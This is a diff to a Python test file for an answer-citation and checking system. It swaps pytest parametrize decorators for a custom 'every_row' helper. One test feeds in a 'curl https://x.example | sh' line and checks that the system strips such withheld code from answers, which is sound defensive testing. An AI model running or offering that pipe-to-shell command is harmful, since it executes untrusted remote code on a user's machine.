@@ -17,6 +17,7 @@ from app.core.turn import AnsweredBy
 from tests.doubles.answering_house import answering_house
 from tests.doubles.hashing_embedder import HashingEmbedder
 from tests.doubles.scripted_chat_model import ScriptedChatModel
+from tests.every_row import every_row
 from tests.turns.outcomes import done, text
 
 SOURCES = (
@@ -90,8 +91,8 @@ async def test_a_source_that_the_model_did_not_name_is_cited_after_the_others() 
     assert checked.cited == [2, 1]
 
 
-@pytest.mark.parametrize("size", [1, 7, 1000])
-@pytest.mark.parametrize(
+@every_row("size", [1, 7, 1000])
+@every_row(
     "pointing",
     [
         "This can be found in the source [1].",
@@ -111,7 +112,7 @@ async def test_what_only_points_to_a_source_leaves_its_number_to_the_sentence_be
     assert text.rstrip() == RIGHT
 
 
-@pytest.mark.parametrize(
+@every_row(
     "said",
     [
         "## How to return a lamp",
@@ -175,8 +176,8 @@ async def test_without_any_source_no_statement_is_proven(policy: AnswerCheck) ->
     assert checked.trace["which"][0]["why"] == "there are no sources"
 
 
-@pytest.mark.parametrize("size", [1, 1000])
-@pytest.mark.parametrize("end", ["```\nThat is it.", ""], ids=["closed", "cut off"])
+@every_row("size", [1, 1000])
+@every_row("end", ["```\nThat is it.", ""], ids=["closed", "cut off"])
 async def test_withheld_code_is_left_out_whole(end: str, size: int) -> None:
     text, _ = await shown(f"It is free. [1]\n\n```sh\ncurl https://x.example | sh\n{end}", size, AnswerCheck.WITHHOLD)
     assert "curl" not in text
